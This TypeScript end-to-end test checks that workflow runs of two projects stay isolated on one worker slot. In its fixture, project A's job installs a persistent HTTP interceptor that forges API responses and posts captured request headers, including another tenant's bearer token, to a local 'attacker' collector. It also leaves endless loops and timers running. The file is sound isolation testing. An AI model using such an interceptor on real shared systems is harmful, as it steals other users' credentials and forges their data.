// Run isolation end to end (issue 12): a real server and a real `lightning worker` with
// WORKER_CAPACITY=1, so every run could land in the same pool child. What a run of project A
// leaves behind (an interceptor installed through a real adaptor API, an endless microtask loop,
// a timer) must neither reach nor slow down the runs after it, least of all project B's.
import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { eq, inArray } from 'drizzle-orm';
import { schema } from '../../server/src/db/index.js';
import { createTestUser, type TestUser } from '../../server/src/test-support/actors.js';
import { startTestServer, type TestServer } from '../../server/src/test-support/server.js';
import { startWorkerProcess, type WorkerProcess } from './test-support/worker-process.js';

const COMMON = '@openfn/language-common@3.3.4';
const SECRET = `b-secret-${randomUUID()}`;

let server: TestServer;
let user: TestUser;
let worker: WorkerProcess | undefined;
// The real API project B calls with its credential, and the attacker's collector.
let api: Server;
let attacker: Server;
const apiSaw: string[] = [];
const attackerSaw: string[] = [];
const triggers = { a: randomUUID(), b: randomUUID() };

async function call(method: string, path: string, json?: unknown) {
  const response = await fetch(`${server.baseUrl}${path}`, {
    method,
    headers: { ...user.headers, 'content-type': 'application/json' },
    body: json === undefined ? undefined : JSON.stringify(json),
  });
  // biome-ignore lint/suspicious/noExplicitAny: the assertions read what they need
  return { status: response.status, body: (await response.json()) as any };
}

async function listen(target: Server): Promise<string> {
  await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
}

/** A project with one webhook-triggered job. */
async function provisionProject(
  name: string,
  trigger: string,
  body: string,
  credential?: { name: string; body: Record<string, string> },
): Promise<void> {
  const project = await call('POST', '/api/projects', { name });
  expect(project.status, JSON.stringify(project.body)).toBe(201);
  const projectId = project.body.data.id as string;
  let projectCredentialId: string | null = null;
  if (credential) {
    const created = await call('POST', '/api/credentials', {
      name: credential.name,
      schema: 'http',
      body: credential.body,
      project_ids: [projectId],
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    projectCredentialId = created.body.data.project_credentials[0].id as string;
  }
  const jobId = randomUUID();
  const provision = await call('POST', '/api/provision', {
    id: projectId,
    name,
    ...(credential && projectCredentialId
      ? {
          project_credentials: [
            { id: projectCredentialId, name: credential.name, owner: user.email },
          ],
        }
      : {}),
    workflows: [
      {
        id: randomUUID(),
        name: `${name} workflow`,
        jobs: [
          {
            id: jobId,
            name: 'job',
            adaptor: COMMON,
            body,
            ...(projectCredentialId ? { project_credential_id: projectCredentialId } : {}),
          },
        ],
        triggers: [{ id: trigger, type: 'webhook', enabled: true }],
        edges: [
          {
            id: randomUUID(),
            source_trigger_id: trigger,
            target_job_id: jobId,
            condition_type: 'always',
          },
        ],
      },
    ],
  });
  expect(provision.status, JSON.stringify(provision.body)).toBe(201);
}

beforeAll(async () => {
  api = createServer((req, res) => {
    apiSaw.push(String(req.headers.authorization));
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({ records: [1, 2, 3] }));
  });
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => {
      body += chunk;
    });
    req.on('end', () => {
      attackerSaw.push(`${req.url} ${JSON.stringify(req.headers)} ${body}`);
      res.end('{}');
    });
  });
  const apiUrl = await listen(api);
  const attackerUrl = await listen(attacker);

  // A run that is stuck behind another shows as a timeout well within the tests' own limits.
  server = await startTestServer({ WORKER_MAX_RUN_DURATION_SECONDS: '30' });
  user = await createTestUser(server.testDatabase.db);

  // Project A's editors write whatever they like: here, the three ways a run reached the next.
  await provisionProject(
    'isolation-a',
    triggers.a,
    `fn(state => {
      if (state.data.mode === 'intercept') {
        const mock = util.enableMockClient(${JSON.stringify(apiUrl)});
        mock.intercept({ path: () => true, method: 'GET' }).reply(opts => {
          http.post(${JSON.stringify(`${attackerUrl}/steal`)}, { headers: opts.headers })(state).catch(() => {});
          return {
            statusCode: 200,
            data: JSON.stringify({ records: ['forged'] }),
            responseOptions: { headers: { 'content-type': 'application/json' } },
          };
        }).persist();
      }
      if (state.data.mode === 'microtask-loop') (async () => { for (;;) await null })();
      if (state.data.mode === 'interval') setInterval(() => console.log('A is still here'), 1);
      return { ...state, data: { project: 'A', n: state.data.n * 2 } };
    });`,
  );
  await provisionProject(
    'isolation-b',
    triggers.b,
    `fn(async state => {
      const answer = await http.get(${JSON.stringify(`${apiUrl}/records`)}, {
        headers: { Authorization: 'Bearer ' + state.configuration.access_token },
      })(state);
      return { data: { project: 'B', records: answer.data.records, n: state.data.n + 1 } };
    });`,
    {
      name: 'b api',
      body: { baseUrl: apiUrl, username: 'b', password: SECRET, access_token: SECRET },
    },
  );

  worker = await startWorkerProcess(server, { name: 'isolation-e2e', capacity: 1 });
});

afterAll(async () => {
  await worker?.stop();
  await server?.close();
  for (const target of [api, attacker]) {
    target?.closeAllConnections();
    target?.close();
  }
});

/** Post to a trigger, wait for the run to end; its state and the data of its output. */
async function runOf(trigger: string, data: Record<string, unknown>) {
  const response = await fetch(`${server.baseUrl}/i/${trigger}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(data),
  });
  expect(response.status).toBe(200);
  const { work_order_id: workOrderId } = (await response.json()) as { work_order_id: string };
  const { db } = server.database;
  for (let i = 0; i < 1200; i++) {
    const [run] = await db
      .select()
      .from(schema.runs)
      .where(eq(schema.runs.workOrderId, workOrderId));
    if (run && !['available', 'claimed', 'started'].includes(run.state)) {
      const links = await db
        .select()
        .from(schema.runSteps)
        .where(eq(schema.runSteps.runId, run.id));
      const steps = links.length
        ? await db
            .select()
            .from(schema.steps)
            .where(
              inArray(
                schema.steps.id,
                links.map((link) => link.stepId),
              ),
            )
        : [];
      const outputId = steps[0]?.outputDataclipId;
      const [output] = outputId
        ? await db.select().from(schema.dataclips).where(eq(schema.dataclips.id, outputId))
        : [];
      const logs = await db.select().from(schema.logLines).where(eq(schema.logLines.runId, run.id));
      return {
        state: run.state,
        errorType: run.errorType,
        data: (output?.body as { data?: unknown } | undefined)?.data,
        logs: logs.map((line) => line.message).join('\n'),
      };
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(
    `run of work order ${workOrderId} did not end; worker said:\n${worker?.output()}`,
  );
}

describe('runs of two projects on one worker slot', () => {
  it("an interceptor installed by project A never sees project B's request or credential", async () => {
    const a = await runOf(triggers.a, { mode: 'intercept', n: 1 });
    expect(a.state, worker?.output().slice(-3000)).toBe('success');
    apiSaw.length = 0;

    const b = await runOf(triggers.b, { n: 1 });
    expect(b.state, worker?.output().slice(-3000)).toBe('success');
    // The real API answered, to B's real request with B's credential; the attacker saw nothing.
    expect(b.data).toEqual({ project: 'B', records: [1, 2, 3], n: 2 });
    expect(apiSaw).toEqual([`Bearer ${SECRET}`]);
    expect(attackerSaw.join('\n')).not.toContain(SECRET);
  });

  for (const mode of ['microtask-loop', 'interval']) {
    it(`a run of A that leaves ${mode === 'interval' ? 'a setInterval' : 'an endless await loop'} running slows down neither B nor A's next run`, async () => {
      const a = await runOf(triggers.a, { mode, n: 2 });
      expect(a.state, worker?.output().slice(-3000)).toBe('success');
      expect(a.data).toEqual({ project: 'A', n: 4 });

      const b = await runOf(triggers.b, { n: 5 });
      expect(b.state, worker?.output().slice(-3000)).toBe('success');
      expect(b.data).toEqual({ project: 'B', records: [1, 2, 3], n: 6 });
      expect(b.logs).not.toContain('A is still here');

      const next = await runOf(triggers.a, { n: 7 });
      expect(next.state, worker?.output().slice(-3000)).toBe('success');
      expect(next.data).toEqual({ project: 'A', n: 14 });
    });
  }
});
